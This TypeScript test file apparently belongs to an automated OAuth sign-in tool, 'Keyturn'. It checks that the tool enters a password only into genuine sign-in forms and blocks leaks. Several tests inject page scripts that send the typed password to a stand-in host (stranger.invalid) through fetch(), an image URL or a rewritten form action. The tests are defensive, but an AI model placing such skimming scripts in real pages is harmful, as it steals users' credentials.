/**
 * Walks through a sample of the corpus in Chromium, from the authorization request to the callback, and checks what
 * was sent to each page.
 */
import { expect } from '../support/test.ts';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { HostGuard } from '../../helpers/http/hosts.ts';
import { SecretRegistry } from '../../helpers/secrets/registry.ts';
import type { SignedIn, SignInLimits } from '../../helpers/sign-in/outcome.ts';
import { signIn } from '../../helpers/sign-in/walk.ts';
import { Blocked } from '../../helpers/verdict/errors.ts';
import { test as base } from '../support/chromium.ts';
import { CORPUS } from './corpus/index.ts';
import type { CorpusPage } from './corpus/page.ts';

const EMAIL = 'ada@mail.invalid';
const PASSWORD = 'Correct-Horse-7-Battery';
const PASSCODE = '482915';
const CALLBACK = 'http://127.0.0.1:9/callback';
/** Limits for a walk that must type nothing. */
const IMPATIENT: Partial<SignInLimits> = { patienceMs: 1000 };

/** A request, such as `POST /login`, and its decoded body. */
interface ReceivedRequest {
  to: string;
  body: string;
}

interface Tenant {
  walk: (pages: {
    signIn: CorpusPage | string;
    then?: CorpusPage;
    reply?: Reply;
    /** Whether the passcodes come from a mailbox, which contains no codes of an app. */
    isMailbox?: boolean;
    /** Otherwise the usual limits, because machines can be slow. */
    limits?: Partial<SignInLimits>;
  }) => Promise<SignedIn>;
  received: ReceivedRequest[];
}

/** May answer in place of the tenant. Returns whether it did. */
type Reply = (request: IncomingMessage, response: ServerResponse, body: string, count: number) => boolean;

const PLAIN = `<!doctype html><title>Sign in</title><form method="post" action="/access/login">
  <input type="email" name="email" autocomplete="username"><input type="password" name="password" autocomplete="current-password">
  <button>Sign in</button></form>`;

/** A small tenant: it has one user, shows one page of the corpus, and redirects to the callback. */
const test = base.extend<{ tenant: Tenant }>({
  tenant: async ({ chromium }, use) => {
    const received: ReceivedRequest[] = [];
    let first = '';
    let next: CorpusPage | undefined;
    let reply: Reply | undefined;
    let isSignedIn = false;
    let nextIsPending = false;
    const server = createServer((request, response) => {
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk.toString()));
      request.on('end', () => {
        const path = request.url?.split('?')[0] ?? '';
        const to = `${request.method ?? ''} ${path}`;
        if (request.method !== 'GET')
          received.push({ to, body: decodeURIComponent(body.replaceAll('+', ' ')) });
        const count = received.filter((one) => one.to === to).length;
        if (reply?.(request, response, body, count) === true) return;
        const show = (html: string) => {
          response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
          response.end(/^\s*<!doctype/i.test(html) ? html : `<!doctype html><meta charset="utf-8">${html}`);
        };
        const lead = (location: string) => response.writeHead(302, { location }).end();
        if (request.method === 'POST') {
          const text = decodeURIComponent(body);
          if (text.includes(PASSWORD)) {
            isSignedIn = true;
            nextIsPending = next !== undefined;
          } else if (isSignedIn) nextIsPending = false;
          lead('/oauth/authorizations/new');
        } else if (path !== '/oauth/authorizations/new') {
          if (isSignedIn && nextIsPending && path === '/next') show(next?.html ?? '');
          else if (isSignedIn && !/favicon/.test(path)) {
            // Every link on an interstitial continues to the callback.
            nextIsPending = false;
            lead('/oauth/authorizations/new');
          } else show(first);
        } else if (!isSignedIn) lead('/auth/v2/login/signin');
        else if (nextIsPending) lead('/next');
        else lead(`${CALLBACK}?code=the-code&state=s`);
      });
    });
    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
    const origin = `http://127.0.0.1:${String((server.address() as AddressInfo).port)}`;
    await use({
      received,
      walk: (pages) => {
        first = typeof pages.signIn === 'string' ? pages.signIn : pages.signIn.html;
        next = pages.then;
        reply = pages.reply;
        return signIn(
          {
            url: `${origin}/oauth/authorizations/new`,
            redirectUris: [CALLBACK],
            credentials: { email: EMAIL, password: PASSWORD },
            passwordFormUrl: `${origin}/access/normal`,
            deviceCookies: [],
          },
          {
            browser: chromium,
            guard: new HostGuard([]),
            secrets: new SecretRegistry(),
            passcodes: {
              title: 'a test',
              isMailbox: pages.isMailbox === true,
              read: () => Promise.resolve(PASSCODE),
            },
            usedPasscodes: new Set(),
            userAgentSuffix: 'Keyturn',
            limits: pages.limits ?? {},
          },
        );
      },
    });
    server.closeAllConnections();
    server.close();
  },
});

/** Finds pages of the corpus that work without a special server. */
function named(...names: string[]): CorpusPage[] {
  return names.map((name) => {
    const found = CORPUS.find((page) => page.name === name);
    if (found === undefined)
      throw new Error(`The corpus no longer has a page “${name}”. Choose another one.`);
    return found;
  });
}

const SIGN_IN_FORMS = named(
  'plain-form',
  'button-aria-disabled-before-typing',
  'captcha-frame-in-the-form',
  'register-above-with-a-name',
);
const OTHER_FORMS = named(
  'register-alone-with-terms',
  'action-on-another-host',
  'register-alone-with-two-fields',
  'two-forms-with-unknown-words',
);
const AFTER_THE_PASSWORD = named(
  'authenticator-that-can-be-skipped',
  'code-in-a-modal-dialog',
  'code-called-twofactor',
  'code-with-a-button-enabled-by-it',
);

/** Matches the request with the password that a page of the corpus should send: to its form's action, if there is one. */
function expectedTarget({ html, expected }: CorpusPage): RegExp {
  const id = 'type' in expected ? (expected.type.password ?? '') : '';
  const before = html.split(new RegExp(`\\sid=["']?${id}["'\\s>]`, 'u'))[0] ?? '';
  const form = before.match(/<form[^>]*>/gu)?.at(-1) ?? '';
  const action = /action="([^"?]*)/u.exec(form)?.[1] ?? '';
  return new RegExp(`^POST ${action === '' ? '/' : action}`, 'u');
}

test.describe('a sign-in page is walked through, and the password goes only to its form', () => {
  for (const one of SIGN_IN_FORMS) {
    test(one.name, async ({ tenant }) => {
      expect(await tenant.walk({ signIn: one })).toMatchObject({ outcome: 'answered', passwordTyped: true });
      const withPassword = tenant.received.filter(({ body }) => body.includes(PASSWORD));
      expect(withPassword.map(({ to }) => to)).toEqual([expect.stringMatching(expectedTarget(one))]);
    });
  }
});

test.describe('a page with a form for another purpose gets no input', () => {
  for (const one of OTHER_FORMS) {
    test(one.name, async ({ tenant }) => {
      const result: unknown = await tenant
        .walk({ signIn: one, limits: IMPATIENT })
        .catch((error: unknown) => error);
      expect(result).toBeInstanceOf(Blocked);
      expect(String(result)).not.toContain('KEYTURN_WRITE_HOSTS');
      expect(tenant.received.filter(({ body }) => body.includes(PASSWORD) || body.includes(EMAIL))).toEqual(
        [],
      );
    });
  }
});

test.describe('a page after the password is answered or skipped', () => {
  for (const one of AFTER_THE_PASSWORD) {
    test(one.name, async ({ tenant }) => {
      expect(await tenant.walk({ signIn: PLAIN, then: one })).toMatchObject({ outcome: 'answered' });
      expect(tenant.received.filter(({ body }) => body.includes(PASSWORD))).toHaveLength(1);
    });
  }
});

test.describe('a password that is about to go to the wrong place is stopped', () => {
  const STRANGER = 'http://stranger.invalid/collect';
  for (const [title, page] of [
    [
      'in a script’s request to another host',
      PLAIN.replace(
        '<button',
        `<script>document.currentScript.form; document.forms[0].onsubmit = (event) => { event.preventDefault();
        fetch('${STRANGER}', { method: 'POST', mode: 'no-cors', body: document.forms[0].password.value }); }</script><button`,
      ),
    ],
    [
      'in the URL of an image',
      PLAIN.replace(
        '<button',
        `<script>document.forms[0].onsubmit = (event) => { event.preventDefault();
        new Image().src = '${STRANGER}?' + encodeURIComponent(document.forms[0].password.value); }</script><button`,
      ),
    ],
    ['in the URL of a form with the method GET', PLAIN.replace('method="post"', 'method="get"')],
    [
      'in a form that changes its target to another host when it is sent',
      PLAIN.replace(
        '<button',
        `<script>document.forms[0].onsubmit = () => { document.forms[0].action = '${STRANGER}'; }</script><button`,
      ),
    ],
  ] as const) {
    test(title, async ({ tenant }) => {
      const result: unknown = await tenant.walk({ signIn: page }).catch((error: unknown) => error);
      expect(result).toBeInstanceOf(Blocked);
      expect((result as Error).message).toMatch(
        /tried to send the password to .*; Keyturn stopped it, and nothing was sent/,
      );
      expect((result as Error).message).not.toContain('Correct-Horse');
      expect((result as Error).message).not.toContain('KEYTURN_WRITE_HOSTS');
      expect(tenant.received).toEqual([]);
    });
  }
});

test.describe('a second window gets nothing', () => {
  for (const [title, page] of [
    ['from the form itself', PLAIN.replace('<form', '<form target="_blank"')],
    [
      'from a form that changes its target to another host',
      PLAIN.replace(
        '<button',
        `<script>document.forms[0].onsubmit = () => {
        document.forms[0].target = '_blank'; document.forms[0].action = 'http://stranger.invalid/'; }</script><button`,
      ),
    ],
  ] as const) {
    test(title, async ({ tenant }) => {
      const result: unknown = await tenant.walk({ signIn: page }).catch((error: unknown) => error);
      expect(result).toBeInstanceOf(Blocked);
      expect((result as Error).message).toMatch(
        /Sending the password opened another window|tried to send the password to/,
      );
      expect(tenant.received).toEqual([]);
    });
  }
});

test('a form that changes its target while it is filled in is not sent', async ({ tenant }) => {
  const turned = PLAIN.replace(
    '<button',
    `<script>document.forms[0].oninput = () => { document.forms[0].action = '/elsewhere'; }</script><button`,
  );
  const result: unknown = await tenant.walk({ signIn: turned }).catch((error: unknown) => error);
  expect(String(result)).toMatch(
    /The form was not sent, because its target changed from \S+ to \/elsewhere while it was filled in/,
  );
  expect(tenant.received).toEqual([]);
});

test('a password that was answered 429 with two values in Retry-After is typed once more', async ({
  tenant,
}) => {
  const busy: Reply = (request, response, _, count) => {
    if (request.method !== 'POST' || count > 1) return false;
    response
      .writeHead(429, { 'content-type': 'text/html', 'retry-after': '1, 2' })
      .end('<p>Please wait.</p>');
    return true;
  };
  const walked = await tenant.walk({ signIn: PLAIN, reply: busy });
  expect(walked).toMatchObject({ outcome: 'answered' });
  expect(walked.steps).toContainEqual({ did: 'waited', ms: 2000 });
  expect(tenant.received).toHaveLength(2);
});

test('an emailed two-factor code is read from a mailbox', async ({ tenant }) => {
  const [emailed] = named('code-emailed-as-the-second-factor');
  if (emailed === undefined) throw new Error('The corpus lacks the page.');
  const walked = await tenant.walk({ signIn: PLAIN, then: emailed, isMailbox: true });
  expect(walked.steps).toContainEqual({ did: 'typed a passcode', from: 'a test' });
});

test('a code from an app stops a run that reads a mailbox', async ({ tenant }) => {
  const [ofApp] = named('code-of-an-app-masked');
  if (ofApp === undefined) throw new Error('The corpus lacks the page.');
  const result: unknown = await tenant
    .walk({ signIn: PLAIN, then: ofApp, isMailbox: true })
    .catch((error: unknown) => error);
  expect(result).toBeInstanceOf(Blocked);
  expect(String(result)).toContain(`asks for a code from an authenticator app to sign in as ${EMAIL}`);
  expect(tenant.received).toHaveLength(1);
});
